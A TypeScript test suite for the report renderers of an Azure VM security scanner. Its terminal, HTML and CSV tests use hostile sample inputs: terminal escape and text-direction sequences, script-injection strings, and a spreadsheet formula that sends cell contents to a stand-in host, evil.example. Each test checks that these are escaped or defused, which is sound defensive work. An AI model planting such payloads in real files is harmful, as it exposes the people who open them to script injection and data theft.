import { readFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import Ajv from 'ajv';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Finding, Report } from '../../src/findings/types.js';
import { csvCell, csvReport } from '../../src/reporters/csv.js';
import { FORMATS, REPORTERS } from '../../src/reporters/formats.js';
import { htmlReport } from '../../src/reporters/html/index.js';
import { barChart, columnChart } from '../../src/reporters/html/charts.js';
import { junitReport, xml } from '../../src/reporters/junit.js';
import { markdownReport } from '../../src/reporters/markdown.js';
import { artifactLocation, relativeUri, sarifLimitWarning, toSarif } from '../../src/reporters/sarif.js';
import { terminalReport } from '../../src/reporters/terminal.js';
import { RULES } from '../../src/rules/index.js';
import { scan } from '../../src/scan.js';
import { ROOT } from '../support/cli.js';
import { controlCharacters, withoutColours } from '../support/control-characters.js';

/** The example estate, with one accepted risk and one expired suppression, as every reporter sees it. */
let report: Report;
beforeAll(async () => {
  report = await scan({
    paths: ['examples'],
    cwd: ROOT,
    now: new Date('2026-06-01T00:00:00Z'),
    suppressions: [
      { rule: 'AZV-VM-006', resource: { name: 'report01' }, reason: 'Legacy reporting VM, replaced in Q3 by the new platform', expires: '2026-12-31' },
      {
        rule: 'AZV-CONN-001',
        resource: { type: 'Microsoft.Network/virtualNetworks' },
        reason: 'Bastion is rolled out by the platform team',
        expires: '2026-01-31',
      },
    ],
  });
}, 60_000);

interface SarifResult {
  readonly locations: {
    readonly physicalLocation?: { artifactLocation: { uri: string; uriBaseId: string }; region: { startLine: number } };
    readonly logicalLocations: { fullyQualifiedName: string; kind: string }[];
  }[];
  readonly partialFingerprints: Record<string, string>;
  readonly suppressions?: { kind: string; status: string; justification: string }[];
}
interface SarifRun {
  readonly tool: { driver: { rules: { id: string }[] } };
  readonly originalUriBaseIds: { SRCROOT: { uri?: string } };
  readonly results: SarifResult[];
  readonly invocations: { toolExecutionNotifications: { message: { text: string } }[] }[];
}
/** The engine's findings derive their message, location and fingerprint when read: a copy as data. */
const plain = (finding: Finding): Finding => JSON.parse(JSON.stringify(finding)) as Finding;
const firstRun = (log: Record<string, unknown>): SarifRun => (log as unknown as { runs: SarifRun[] }).runs[0] as SarifRun;

/** The example report with `evil` for every name, reason, message, file and input diagnostic from the scanned files. */
function hostileReport(evil: string): Report {
  return {
    ...report,
    evaluations: report.evaluations.map((e) => ({
      ...e,
      resource: { ...e.resource, name: evil },
      reason: evil,
      findings: e.findings.map((f) => ({ ...plain(f), message: { en: evil, ja: evil }, location: { ...f.location, file: evil } })),
    })),
    exposure: report.exposure.map((x) => ({ ...x, vm: { ...x.vm, name: evil } })),
    inputs: report.inputs.map((input) => ({ ...input, diagnostics: [{ severity: 'error', message: evil }] })),
  };
}

/** Cells of an RFC 4180 text (CRLF rows, quoted cells with doubled quotes), as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        cell += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        cell += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      cell = end === -1 ? text.slice(i) : text.slice(i, i + end);
      i = end === -1 ? text.length : i + end;
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

function sarifValidator(): Ajv.ValidateFunction {
  // The OASIS schema is draft-04; its only draft-04-specific keyword is the top-level `id`.
  const { $schema: _draft, id: _id, ...schema } = JSON.parse(readFileSync(path.join(ROOT, 'test/fixtures/sarif/sarif-schema-2.1.0.json'), 'utf8'));
  // unicodeRegExp off: the schema's `language` pattern has a stray `]` that only non-unicode regexps accept.
  const ajv = new Ajv.default({ allErrors: true, strict: false, unicodeRegExp: false });
  addFormats.default(ajv);
  return ajv.compile(schema);
}

describe('every format', () => {
  for (const format of FORMATS) {
    it(`${format}: renders the example estate in English and Japanese`, () => {
      const en = REPORTERS[format].render(report, RULES, 'en', { srcRoot: 'file:///repo/' });
      const ja = REPORTERS[format].render(report, RULES, 'ja', { srcRoot: 'file:///repo/' });
      expect(en.length).toBeGreaterThan(500);
      expect(ja).not.toBe(en);
      expect(en).toContain('AZV-VM-006');
    });
  }
});

describe('reasons', () => {
  const english = 'patch compliance is runtime state: only a live scan or a snapshot (Resource Graph patchassessmentresources) shows it';
  const japanese = 'パッチ準拠状況は実行時の状態で、ライブスキャンまたはスナップショット（Resource Graph の patchassessmentresources）でしか分かりません';

  it('are kept in English in the evaluation and written in the language of the report', () => {
    expect(report.evaluations.some((e) => e.ruleId === 'AZV-VM-012' && e.reason === english)).toBe(true);
    for (const format of ['terminal', 'markdown', 'csv', 'junit'] as const) {
      const en = REPORTERS[format].render(report, RULES, 'en', {});
      const ja = REPORTERS[format].render(report, RULES, 'ja', {});
      expect(en, format).toContain(english);
      expect(ja, format).toContain(japanese);
      expect(ja, format).not.toContain(english);
    }
    const json = (locale: 'en' | 'ja'): { evaluations: { ruleId: string; reason?: string }[] } =>
      JSON.parse(REPORTERS.json.render(report, RULES, locale, {})) as { evaluations: { ruleId: string; reason?: string }[] };
    expect(json('en').evaluations.find((e) => e.ruleId === 'AZV-VM-012' && e.reason !== undefined)?.reason).toBe(english);
    expect(json('ja').evaluations.find((e) => e.ruleId === 'AZV-VM-012' && e.reason !== undefined)?.reason).toBe(japanese);
    const html = htmlReport(report, RULES, 'ja');
    expect(html).toContain(`<span lang="en">${english}</span><span lang="ja">${japanese}</span>`);
  });
});

describe('terminal', () => {
  it('names the way an exposed port is reached in the language of the report', () => {
    expect(terminalReport(report, RULES, 'en', { color: false })).toContain('TCP 3389 (public IP contoso-jump01-pip)');
    expect(terminalReport(report, RULES, 'ja', { color: false })).toContain('TCP 3389 (パブリック IP contoso-jump01-pip)');
  });

  it('groups each pillar by status and rule in report order, with the rule severity and the count past the first few', () => {
    const counted = report.evaluations.filter((e) => e.status !== 'not-applicable');
    for (const maxPerRule of [0, 1, 10]) {
      const lines = terminalReport(report, RULES, 'en', { color: false, maxPerRule }).split('\n');
      expect(lines[1]).toContain(`${counted.length} evaluation(s)`);
      // One ✗ line per failing rule, in the order the rule first fails, with its severity; then how many are not shown.
      const failing = [...new Set(counted.filter((e) => e.status === 'fail').map((e) => e.ruleId))];
      const failLines = lines.filter((line) => line.startsWith('  ✗ '));
      expect(failLines.map((line) => line.split(' ')[4])).toEqual(failing);
      for (const [i, ruleId] of failing.entries()) {
        const fails = counted.filter((e) => e.status === 'fail' && e.ruleId === ruleId);
        expect(failLines[i]).toContain(` ${(fails[0]?.severity ?? '').toUpperCase()} ${ruleId} `);
        const hidden = fails.length - Math.min(fails.length, maxPerRule);
        const after = lines.slice(lines.indexOf(failLines[i] as string) + 1);
        const more = after.findIndex((line) => line.includes('… and'));
        const next = after.findIndex((line) => /^ {2}\S/.test(line));
        expect(hidden > 0 ? more >= 0 && (next < 0 || more < next) : more < 0 || (next >= 0 && more > next), `${ruleId} at ${maxPerRule}`).toBe(true);
        if (hidden > 0) expect(after[more]).toContain(`… and ${hidden} more`);
      }
      // Passing rules with how many resources pass.
      for (const ruleId of new Set(counted.filter((e) => e.status === 'pass').map((e) => e.ruleId))) {
        const passes = counted.filter((e) => e.status === 'pass' && e.ruleId === ruleId).length;
        expect(lines.find((line) => line.startsWith(`  ✓ ${ruleId} `))).toMatch(new RegExp(`\\(${passes}\\)$`));
      }
    }
  });

  it('spells out control characters from the scanned files, so that a name cannot rewrite or recolour what a terminal shows', () => {
    // A carriage return to overwrite the line, a colour that hides text, a window title, a bell, a right-to-left override.
    const hostile = hostileReport('vm01\r\u001b[8m\u001b]0;owned\u0007\u202ehidden\nfake line\u0000');
    const spelled = 'vm01\\r\\u001b[8m\\u001b]0;owned\\u0007\\u202ehidden\\nfake line\\u0000';
    for (const locale of ['en', 'ja'] as const) {
      const terminal = terminalReport(hostile, RULES, locale, { color: false });
      expect(controlCharacters(terminal)).toEqual([]);
      expect(terminal).toContain(spelled);
      expect(terminal).not.toContain('\nfake line');
      // With colours, the only escape sequences are azvmsec's own.
      const colored = terminalReport(hostile, RULES, locale, { color: true });
      expect(withoutColours(colored)).toBe(terminal);
      const md = markdownReport(hostile, RULES, locale);
      expect(controlCharacters(md)).toEqual([]);
      expect(md).not.toContain('\nfake line');
      // In HTML only line feeds remain (a browser shows them as spaces); the rest is spelled out.
      const html = htmlReport(hostile, RULES, locale);
      expect(controlCharacters(html.replaceAll('\r', '').replaceAll('\t', ''))).toEqual([]);
      expect(html).toContain('\\u001b[8m\\u001b]0;owned\\u0007\\u202ehidden');
    }
    // A name of megabytes is cut where it is printed (the JSON report keeps it whole).
    const long = 'x'.repeat(1_000_000);
    const named: Report = { ...report, exposure: report.exposure.map((x) => ({ ...x, vm: { ...x.vm, name: long } })) };
    const terminal = terminalReport(named, RULES, 'en', { color: false });
    expect(terminal).not.toContain(long);
    expect(terminal).toContain(`${'x'.repeat(10_000)}… (990000 more characters)`);
  });
});

describe('SARIF', () => {
  it('validates against the SARIF 2.1.0 schema, in both languages', () => {
    const validate = sarifValidator();
    for (const locale of ['en', 'ja'] as const) {
      const log = toSarif(report, RULES, locale, { srcRoot: pathToFileURL(ROOT).href + '/' });
      expect(validate(log), JSON.stringify(validate.errors?.slice(0, 5), null, 2)).toBe(true);
    }
  });

  it('carries the whole rule catalogue with help, help URI and security-severity', () => {
    const driver = firstRun(toSarif(report, RULES, 'en')).tool.driver;
    expect(driver.rules.map((r: { id: string }) => r.id)).toEqual(RULES.map((r) => r.id).sort());
    const rule = driver.rules.find((r: { id: string }) => r.id === 'AZV-VM-006');
    expect(rule).toMatchObject({
      shortDescription: { text: expect.any(String) },
      fullDescription: { text: expect.any(String) },
      help: { text: expect.stringContaining('docs/rules/en/AZV-VM-006.md'), markdown: expect.any(String) },
      helpUri: expect.stringMatching(/^https:\/\/.+\/docs\/rules\/en\/AZV-VM-006\.md$/),
      properties: { 'security-severity': expect.stringMatching(/^\d+\.\d$/), tags: expect.arrayContaining(['security']) },
    });
  });

  it('gives relative file locations with originalUriBaseIds, fingerprints, and keeps suppressed results with their justification', () => {
    const run = firstRun(toSarif(report, RULES, 'en', { srcRoot: 'file:///repo/' }));
    expect(run.originalUriBaseIds.SRCROOT.uri).toBe('file:///repo/');
    const fromFiles = run.results.filter((r) => r.locations[0]!.physicalLocation);
    expect(fromFiles.length).toBeGreaterThan(10);
    for (const result of run.results) {
      expect(result.partialFingerprints['azvmsecFingerprint/v1']).toMatch(/^[0-9a-f]{32}$/);
      expect(result.locations[0]!.logicalLocations[0]!.fullyQualifiedName).toMatch(/^\//);
      const physical = result.locations[0]!.physicalLocation;
      if (physical) {
        expect(physical.artifactLocation.uriBaseId).toBe('SRCROOT');
        expect(physical.artifactLocation.uri).not.toMatch(/^(\/|file:)/);
        expect(physical.region.startLine).toBeGreaterThan(0);
      }
    }
    const suppressed = run.results.filter((r) => r.suppressions?.[0]?.kind === 'external');
    expect(suppressed.length).toBeGreaterThan(0);
    expect(suppressed[0]?.suppressions?.[0]).toMatchObject({
      kind: 'external',
      status: 'accepted',
      justification: expect.stringContaining('Legacy reporting VM'),
    });
    expect(run.invocations[0]!.toolExecutionNotifications.some((n) => /expired/.test(n.message.text))).toBe(true);
  });

  it('gives live resources a logical location only, and says GitHub code scanning refuses that', () => {
    const { location: _declared, ...resource } = report.evaluations[0]!.resource;
    const live: Report = {
      ...report,
      evaluations: report.evaluations.map((e) => ({
        ...e,
        resource: { ...resource, id: e.resource.id, name: e.resource.name, type: e.resource.type, input: 'live' },
        findings: e.findings.map((f) => ({ ...plain(f), location: { pointer: f.location.pointer } })),
      })),
    };
    const run = firstRun(toSarif(live, RULES, 'en'));
    expect(run.results.every((r) => r.locations[0]!.physicalLocation === undefined && r.locations[0]!.logicalLocations[0]!.kind === 'resource')).toBe(true);
    expect(sarifValidator()(toSarif(live, RULES, 'en'))).toBe(true);
    // A snapshot piped in (`azvmsec scan <(az graph query …)`) is no file either.
    const piped: Report = { ...live, evaluations: live.evaluations.map((e) => ({ ...e, resource: { ...e.resource, input: '/dev/fd/63' } })) };
    expect(firstRun(toSarif(piped, RULES, 'en')).results.every((r) => r.locations[0]!.physicalLocation === undefined)).toBe(true);
    expect(sarifLimitWarning(live)).toBe(
      `${run.results.length} SARIF result(s) come from no file (a live scan, standard input or a pipe) and have only the resource id as location: GitHub code scanning refuses a SARIF file with such a result; scan a snapshot file in the repository (azvmsec collect) to upload it`,
    );
  });

  it('gives every result read from a file a file location, a snapshot file too: GitHub code scanning refuses a whole SARIF file over one result without', () => {
    // The example estate holds a tenant snapshot (Conditional Access, role assignments, Defender plans), which keeps no lines.
    const run = firstRun(toSarif(report, RULES, 'en'));
    const fromSnapshot = run.results.filter((r) => r.locations[0]!.logicalLocations[0]!.fullyQualifiedName.startsWith('/providers/Microsoft.Graph/tenants/'));
    expect(fromSnapshot.length).toBeGreaterThan(3);
    for (const result of run.results) expect(result.locations[0]!.physicalLocation, JSON.stringify(result.locations[0])).toBeDefined();
    expect(fromSnapshot[0]!.locations[0]!.physicalLocation).toEqual({
      artifactLocation: { uri: 'examples/tenant/contoso-tenant.snapshot.json', uriBaseId: 'SRCROOT' },
      region: { startLine: 1, startColumn: 1 },
    });
    expect((run as unknown as { artifacts: { location: { uri: string } }[] }).artifacts.map((a) => a.location.uri)).toContain(
      'examples/tenant/contoso-tenant.snapshot.json',
    );
    expect(sarifLimitWarning(report)).toBeUndefined();
  });

  it('keeps at most the 10 tags per rule GitHub code scanning shows (it refuses a rule of more than 20), with every mapping in properties', () => {
    const rules = firstRun(toSarif(report, RULES, 'en')).tool.driver.rules as unknown as { id: string; properties: { tags: string[]; mappings: string[] } }[];
    for (const rule of rules) expect(rule.properties.tags.length, rule.id).toBeLessThanOrEqual(10);
    const many = RULES.find((rule) => Object.values(rule.mappings).flat().length > 17);
    expect(many, 'a rule with more mappings than tags fit').toBeDefined();
    const descriptor = rules.find((rule) => rule.id === many?.id);
    expect(descriptor?.properties.tags.slice(0, 3)).toEqual(['security', 'azure', expect.any(String)]);
    expect(descriptor?.properties.mappings).toHaveLength(Object.values(many?.mappings ?? {}).flat().length);
  });

  it('points at a file outside the scanned folder by a file: URI, with no base', () => {
    const outside: Report = {
      ...report,
      evaluations: report.evaluations.map((e) => ({
        ...e,
        findings: e.findings.map((f) => ({ ...plain(f), location: { ...f.location, file: f.location.file ? `/srv/infra/${f.location.file}` : undefined } })),
      })),
    };
    const run = firstRun(toSarif(outside, RULES, 'en', { srcRoot: 'file:///repo/' }));
    const located = run.results.filter((r) => r.locations[0]!.physicalLocation?.artifactLocation.uri.startsWith('file:'));
    expect(located.length).toBeGreaterThan(10);
    expect(located[0]!.locations[0]!.physicalLocation!.artifactLocation).toEqual({ uri: expect.stringMatching(/^file:\/\/\/srv\/infra\/examples\//) });
    expect(sarifValidator()(toSarif(outside, RULES, 'en'))).toBe(true);
    expect(artifactLocation('C:\\infra\\my vm.json')).toEqual({ uri: 'file:///C:/infra/my%20vm.json' });
    expect(artifactLocation('\\\\server\\share\\a.json')).toEqual({ uri: 'file://server/share/a.json' });
    expect(artifactLocation('infra\\a.json')).toEqual({ uri: 'infra/a.json', uriBaseId: 'SRCROOT' });
  });

  it('says when it holds more results than GitHub code scanning takes in a run (25,000)', () => {
    const failing = report.evaluations.filter((e) => e.status === 'fail');
    const results = failing.reduce((sum, e) => sum + e.findings.length, 0);
    expect(sarifLimitWarning(report)).toBeUndefined();
    const copies = Math.ceil(25_001 / results);
    const large: Report = { ...report, evaluations: Array.from({ length: copies }, () => failing).flat() };
    expect(sarifLimitWarning(large)).toBe(
      `the SARIF report holds ${copies * results} results, and GitHub code scanning refuses a run of more than 25,000: scan with --baseline to report only what changed, or keep the JSON report instead`,
    );
  });

  it('gives each result its own partialFingerprints: VMs that one NSG rule exposes, two findings at one place', () => {
    const run = firstRun(toSarif(report, RULES, 'en'));
    const sets = run.results.map((r) => JSON.stringify(r.partialFingerprints));
    expect(new Set(sets).size).toBe(sets.length);
    // The finding's own fingerprint is kept, as in the JSON report.
    const json = JSON.parse(REPORTERS.json.render(report, RULES, 'en')) as { evaluations: { findings: { fingerprint: string }[] }[] };
    const fromJson = new Set(json.evaluations.flatMap((e) => e.findings.map((f) => f.fingerprint)));
    expect(run.results.every((r) => fromJson.has(r.partialFingerprints['azvmsecFingerprint/v1']!))).toBe(true);
    expect(run.results.some((r) => r.partialFingerprints['azvmsecResult/v1'])).toBe(true);
  });

  it('names the rule of a notification as its associatedRule (a descriptor names a notification kind), in the language of the report', () => {
    const reason = 'patch compliance is runtime state: only a live scan or a snapshot (Resource Graph patchassessmentresources) shows it';
    const crashed: Report = { ...report, evaluations: [{ ...report.evaluations[0]!, status: 'error', reason }, ...report.evaluations.slice(1)] };
    const log = toSarif(crashed, RULES, 'ja');
    expect(sarifValidator()(log)).toBe(true);
    const run = firstRun(log) as unknown as {
      tool: { driver: { rules: { id: string }[] } };
      invocations: {
        toolExecutionNotifications: { level: string; message: { text: string }; descriptor?: unknown; associatedRule?: { id: string; index: number } }[];
      }[];
    };
    const notifications = run.invocations[0]!.toolExecutionNotifications;
    expect(notifications.every((n) => n.descriptor === undefined)).toBe(true);
    const error = notifications.find((n) => n.level === 'error')!;
    const ruleId = crashed.evaluations[0]!.ruleId;
    expect(error.associatedRule).toEqual({ id: ruleId, index: run.tool.driver.rules.findIndex((rule) => rule.id === ruleId) });
    expect(error.message.text).toContain('パッチ準拠状況');
    expect(notifications.find((n) => n.level === 'warning')?.associatedRule?.id).toBe('AZV-CONN-001');
  });

  it('encodes file paths as relative URI references', () => {
    expect(relativeUri('examples\\my templates\\a#b.json')).toBe('examples/my%20templates/a%23b.json');
  });
});

describe('HTML', () => {
  it('is one self-contained page: nothing loaded from the network, a CSP, both languages', () => {
    const html = htmlReport(report, RULES, 'en');
    expect(html).toMatch(/^<!DOCTYPE html>/);
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/<(script|img|link|iframe)[^>]+(src|href)=["']?(https?:)?\/\//i);
    expect(html).not.toMatch(/url\(\s*['"]?https?:/i);
    expect(html).toContain('<span lang="ja">');
    expect(html).toContain('data-set-lang="ja"');
    expect(html).toContain('@media print');
    expect(html).toContain('id="exposure"');
    expect(html).toContain('id="not-assessed"');
    expect(Buffer.byteLength(html)).toBeLessThan(1_000_000);
  });

  it('escapes every string from the scanned files', () => {
    const hostile = hostileReport('<script>alert(1)</script>"\'><img src=x onerror=alert(2)>');
    for (const locale of ['en', 'ja'] as const) {
      const html = htmlReport(hostile, RULES, locale);
      expect(html).not.toContain('<script>alert');
      expect(html).not.toContain('<img src=x');
      expect(html.match(/<script>/g)).toHaveLength(1);
      // Code spans render literally (and cannot be closed early: backticks inside are replaced).
      const md = markdownReport(hostile, RULES, locale).replace(/`[^`\n]*`/g, '');
      expect(md).not.toContain('<script>');
      expect(md).not.toContain('<img');
      expect(junitReport(hostile, RULES, locale)).not.toContain('<script>');
    }
  });

  it('draws charts as inline SVG: bars scale, n/a for unscored points, labels in both languages', () => {
    const columns = columnChart(
      [
        { label: { en: 'A', ja: 'エー' }, value: 50, color: '#f00' },
        { label: { en: 'B', ja: 'ビー' }, value: null, color: '#0f0' },
      ],
      { max: 100, width: 200, height: 140, title: { en: 'T', ja: 'T' } },
    );
    expect(columns).toMatch(/^<svg [^>]*viewBox="0 0 200 140"/);
    expect(columns).toContain('<text lang="ja"');
    expect(columns).toContain('>n/a<');
    const plot = 140 - 42 - 18;
    expect(columns).toContain(`height="${plot / 2}" fill="#f00"`);
    const bars = barChart(
      [
        { label: { en: 'high', ja: '高' }, value: 4, color: '#a00' },
        { label: { en: 'low', ja: '低' }, value: 2, color: '#0a0' },
        { label: { en: 'info', ja: '情報' }, value: 0, color: '#00a' },
      ],
      { width: 244, title: { en: 'B', ja: 'B' } },
    );
    expect(bars).toContain('width="100" height="22" fill="#a00"');
    expect(bars).toContain('width="50" height="22" fill="#0a0"');
    expect(bars).not.toContain('fill="#00a"');
    expect(columnChart([{ label: { en: '<b>', ja: '<b>' }, value: 1, color: '#000' }], { max: 1, title: { en: 'x', ja: 'x' } })).not.toContain('<b>');
  });
});

describe('Markdown', () => {
  it('puts the summary first and folds the details', () => {
    const md = markdownReport(report, RULES, 'en');
    const firstDetails = md.indexOf('<details');
    expect(firstDetails).toBeGreaterThan(0);
    expect(md.slice(0, firstDetails)).toMatch(/\*\*\d+ failed\*\*/);
    expect(md.slice(0, firstDetails)).toContain('| 1. Connection');
    expect(md).toContain('Accepted risks (suppressed)');
    expect(md).toContain('expired on 2026-01-31');
  });
});

describe('JUnit', () => {
  it('has one test case per evaluation: failure, skipped with reason, error', () => {
    const text = junitReport(report, RULES, 'en');
    const listed = report.evaluations.filter((e) => e.status !== 'not-applicable');
    expect(text.match(/<testcase /g)).toHaveLength(listed.length);
    const open = listed.filter((e) => e.status === 'fail' && !e.suppression).length;
    expect(text.match(/<failure /g)).toHaveLength(open);
    expect(text).toMatch(new RegExp(`<testsuites name="azvmsec" tests="${listed.length}" failures="${open}"`));
    expect(text).toMatch(/<skipped message="unknown: [^"]+"/);
    expect(text).toMatch(/<skipped message="Risk accepted/);
  });

  it('names test cases uniquely within a rule, as GitLab and Jenkins keep one of a class name and name', () => {
    // vm01 in two resource groups, declared in one template: the same name, two resources.
    const failing = report.evaluations.filter((e) => e.status === 'fail' && e.resource.location);
    const twins: Report = {
      ...report,
      evaluations: [
        ...report.evaluations,
        ...failing.map((e) => ({ ...e, resource: { ...e.resource, id: `${e.resource.id}-twin` } })),
        ...failing.map((e) => ({
          ...e,
          resource: { ...e.resource, id: `${e.resource.id}-other`, location: { ...e.resource.location!, line: 999 } },
          findings: e.findings.map((f) => ({ ...plain(f), location: { ...f.location, line: 999 } })),
        })),
      ],
    };
    const text = junitReport(twins, RULES, 'en');
    const cases = [...text.matchAll(/<testcase classname="([^"]*)" name="([^"]*)"/g)].map((m) => `${m[1]} ${m[2]}`);
    expect(cases.length).toBe(twins.evaluations.filter((e) => e.status !== 'not-applicable').length);
    expect(new Set(cases).size).toBe(cases.length);
    // A name used once stays as it was; shared ones say where each is.
    expect(junitReport(report, RULES, 'en')).toMatch(/name="AZV-VM-006 [^"]* — report01" /);
    const shared = failing.find((e) => e.findings[0]?.location.file === e.resource.location?.file)!;
    const [file, line] = [shared.findings[0]!.location.file, shared.findings[0]!.location.line];
    expect(text).toContain(`— ${shared.resource.name} (${file}:${line}) #1"`);
    expect(text).toContain(`— ${shared.resource.name} (${file}:${line}) #2"`);
    expect(text).toContain(`— ${shared.resource.name} (${file}:999)"`);
  });

  it('escapes XML and drops characters XML cannot hold', () => {
    expect(xml('a<b>&"\'\u0001c')).toBe('a&lt;b&gt;&amp;&quot;&apos;c');
  });
});

describe('CSV', () => {
  it('starts with a UTF-8 byte-order mark, which Excel needs to read Japanese (else it reads the system code page, Shift_JIS)', () => {
    const ja = csvReport(report, RULES, 'ja');
    expect(ja.startsWith('\uFEFFpillar,')).toBe(true);
    expect(ja.indexOf('\uFEFF', 1)).toBe(-1);
    expect(Buffer.from(ja, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('quotes as RFC 4180 and defuses formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const formula of ['=HYPERLINK("x")', '+1', '-2', '@SUM(A1)']) expect(csvCell(formula).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-1,2')).toBe(`"'-1,2"`);
    // A tab or carriage return (the other two characters OWASP lists) cannot lead a cell: they are spelled out.
    expect(csvCell('\t=1+1')).toBe('\\t=1+1');
    expect(csvCell('\r=1+1')).toBe('\\r=1+1');
    // A control character before the formula is spelled out, not dropped, so the formula never comes first.
    expect(csvCell('\u0000=1+1')).toBe('\\u0000=1+1');
    // Our own numbers (line, column) are never prefixed.
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-1)).toBe('-1');
  });

  it('keeps line feeds in quoted cells and spells out every other control character from the scanned files', () => {
    expect(csvCell('two\r\nlines')).toBe('"two\nlines"');
    expect(csvCell('a\rb\tc\u0000d\u001be\u007ff\u0085g\u202eh')).toBe('a\\rb\\tc\\u0000d\\u001be\\u007ff\\u0085g\\u202eh');
    const hostile = hostileReport('vm01\r\u001b[8m\u001b]0;owned\u0007\u202ehidden\nfake line\u0000\u007f');
    const spelled = 'vm01\\r\\u001b[8m\\u001b]0;owned\\u0007\\u202ehidden\nfake line\\u0000\\u007f';
    for (const locale of ['en', 'ja'] as const) {
      const csv = csvReport(hostile, RULES, locale);
      // Rows end in CRLF; within them only the line feeds of quoted cells remain.
      expect(controlCharacters(csv.replaceAll('\r\n', ''))).toEqual([]);
      expect(csv).toContain(`"${spelled}"`);
      expect(csv).not.toMatch(/(^|\r\n)fake line/);
      // Every row still has one cell per column.
      const rows = parseCsv(csv.slice(1));
      expect(rows.length).toBeGreaterThan(10);
      for (const row of rows) expect(row.length).toBe(17);
    }
  });

  it('prefixes a cell from the scanned files that a spreadsheet would run as a formula', () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const csv = csvReport(hostileReport(formula), RULES, 'en');
    const rows = parseCsv(csv.slice(1));
    const resourceName = rows[0]!.indexOf('resourceName');
    const message = rows[0]!.indexOf('message');
    expect(rows.slice(1).every((row) => row[resourceName] === `'${formula}`)).toBe(true);
    expect(rows.slice(1).some((row) => row[message] === `'${formula}`)).toBe(true);
    expect(rows.slice(1).some((row) => row.some((cell) => cell.startsWith('=')))).toBe(false);
  });

  it('has a header and CRLF rows, one per finding or check', () => {
    const text = csvReport(report, RULES, 'en');
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(
      '\uFEFFpillar,ruleId,title,severity,status,suppressed,resourceName,resourceType,resourceId,file,line,column,message,note,fingerprint,defenderForCloud,defenderAgrees',
    );
    const listed = report.evaluations.filter((e) => e.status !== 'not-applicable');
    const rows = listed.reduce((sum, e) => sum + Math.max(1, e.findings.length), 0);
    expect(lines.length).toBe(rows + 2);
  });
});
